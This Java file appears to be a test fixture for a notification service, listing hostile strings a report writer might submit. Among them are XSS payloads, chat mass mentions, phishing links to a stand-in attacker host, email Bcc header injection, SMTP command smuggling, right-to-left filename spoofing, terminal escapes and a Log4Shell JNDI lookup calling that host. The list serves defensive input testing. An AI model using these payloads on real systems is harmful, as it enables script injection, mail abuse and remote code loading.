package dev.sealpost.notify;

import java.util.List;

/** What somebody may write into a report who wants something from its readers. */
public final class HostileTexts {
    public static final List<String> ALL = List.of(
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "\"><a href=\"https://evil.example\">x</a>",
            "<!channel> <!here> <@U012AB3CD> <https://evil.example|click>",
            "@everyone @here @channel @all",
            "[click](https://evil.example) ![x](https://evil.example/x.png)",
            "```\ncode ends here\n``` **bold** _it_ ~~s~~ ||spoiler||",
            "`` ` ``",
            "# heading\n> quote\n- list\n1. list",
            "x\r\nBcc: victim@example.net\r\n\r\nbody",
            "\u760d\u760aBcc: victim@example.net",
            "=?utf-8?q?=0D=0ABcc:_victim@example.net?=",
            "\u202Egnp.exe \u2066x\u2069 \u200Bzero\uFEFF",
            "\u0000\u0007\u001b[31mred\u009b31m",
            "half \ud83d pair and \udc00 other",
            "&amp;&lt;script&gt;",
            "{{7*7}} ${jndi:ldap://evil.example/a} %0d%0a",
            "\u2028line\u2029paragraph",
            ".\r\n.\r\nMAIL FROM:<x>",
            "z".repeat(200_000));

    private HostileTexts() {}
}
